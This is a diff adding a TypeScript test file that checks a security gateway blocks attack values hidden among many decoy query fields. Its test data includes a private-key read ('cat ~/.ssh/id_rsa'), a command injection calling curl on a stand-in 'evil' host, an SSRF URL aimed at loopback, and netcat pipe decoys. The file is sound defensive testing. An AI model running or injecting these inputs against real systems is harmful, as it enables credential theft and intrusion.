@@ -1,0 +1,65 @@
+import assert from "node:assert/strict";
+import { after, before, test } from "node:test";
+import { startTestGateway, type TestGateway } from "../harness/gateway.ts";
+import { type RecordingUpstream, startRecordingUpstream } from "../harness/upstream.ts";
+
+/** Values that the screen leaves unsure and the model clears must not crowd out the one that is an attack. */
+const policy = `
+version: 1
+mode: prevent
+routes:
+  - { name: unsure, match: { path: /unsure }, public: true, score: { deadline: 5s } }
+  - { name: always, match: { path: /always }, public: true, score: { ask: always, deadline: 5s } }
+`;
+const decoy = (number: number) => `| nc evil ${number}`;
+const attacks = ["cat ~/.ssh/id_rsa", "http://2130706433/", "a && curl evil.sh"];
+
+let upstream: RecordingUpstream;
+let gateway: TestGateway;
+
+before(
+  async () => {
+    upstream = await startRecordingUpstream();
+    gateway = await startTestGateway({ upstream: upstream.url, policy });
+  },
+  { timeout: 120_000 },
+);
+after(async () => {
+  await gateway.stop();
+  await upstream.stop();
+});
+
+async function get(path: string, fields: readonly string[]): Promise<number> {
+  const query = new URLSearchParams(fields.map((value, index) => [`f${index}`, value]));
+  const response = await fetch(`${gateway.url}${path}?${query}`);
+  await response.arrayBuffer();
+  return response.status;
+}
+
+for (const path of ["/unsure", "/always"]) {
+  for (const attack of attacks) {
+    test(`${path}: ${attack} is found among many decoys, in fields of their own and in one value`, async () => {
+      const seen = upstream.requests.length;
+      assert.equal(await get(path, [attack]), 403, "alone");
+      assert.equal(await get(path, [...Array.from({ length: 17 }, () => decoy(99)), attack]), 403, "equal decoys");
+      assert.equal(
+        await get(path, [...Array.from({ length: 40 }, (_, i) => decoy(i)), attack]),
+        403,
+        "different decoys",
+      );
+      const filler = "lorem ipsum dolor ".repeat(20);
+      assert.equal(await get(path, [`${decoy(99)} ${filler}${attack}`]), 403, "behind one decoy and filler");
+      assert.equal(upstream.requests.length, seen);
+    });
+  }
+}
+
+test("a request with more unsure values than are asked about is not waved through", async () => {
+  const seen = upstream.requests.length;
+  const status = await get(
+    "/unsure",
+    Array.from({ length: 300 }, (_, i) => decoy(i + 1000)),
+  );
+  assert.ok(status === 403 || status === 503, `${status}`);
+  assert.equal(upstream.requests.length, seen);
+});
